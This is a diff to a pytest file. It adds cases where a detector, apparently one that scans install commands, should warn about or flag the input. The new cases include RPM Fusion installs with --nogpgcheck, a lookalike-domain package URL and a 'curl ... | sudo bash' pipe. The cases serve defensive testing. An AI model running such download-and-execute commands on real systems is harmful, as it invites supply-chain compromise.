@@ -29,6 +29,9 @@ def _download_and_run(tmp_path: Path, block: str) -> set[str]:
         "sudo dnf install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm",
         "wget -O /tmp/grafana.deb https://dl.grafana.com/oss/release/grafana_11.1.0_amd64.deb\n"
         "sudo apt-get install -y /tmp/grafana.deb",
+        # RPM Fusion's release packages, as rpmfusion.org's Configuration page gives them (its mirror redirector)
+        "sudo dnf install -y --nogpgcheck https://mirrors.rpmfusion.org/free/el/rpmfusion-free-release-9.noarch.rpm",
+        "sudo dnf install https://mirrors.rpmfusion.org/nonfree/fedora/rpmfusion-nonfree-release-40.noarch.rpm",
     ],
 )
 def test_a_vendor_repository_package_installed_is_a_warning(tmp_path: Path, block: str) -> None:
@@ -46,6 +49,9 @@ def test_a_vendor_repository_package_installed_is_a_warning(tmp_path: Path, bloc
         "wget http://dl.grafana.com/oss/release/grafana_11.1.0_amd64.deb\nsudo dpkg -i grafana_11.1.0_amd64.deb",
         # another path on the vendor's host than its repository
         "wget https://dl.grafana.com/uploads/tools/agent.deb\nsudo dpkg -i agent.deb",
+        # RPM Fusion's host name worn by another domain, or a script from its mirror host run by a shell
+        "sudo dnf install -y https://mirrors.rpmfusion.org.pkg-cdn.invalid/free/el/rpmfusion-free-release-9.noarch.rpm",
+        "curl -fsSL https://mirrors.rpmfusion.org/free/el/setup.sh | sudo bash",
         # a package from an unknown host
         "wget https://pkgs.tooling-cdn.invalid/deb/helper_2.0_all.deb\nsudo dpkg -i helper_2.0_all.deb",
     ],
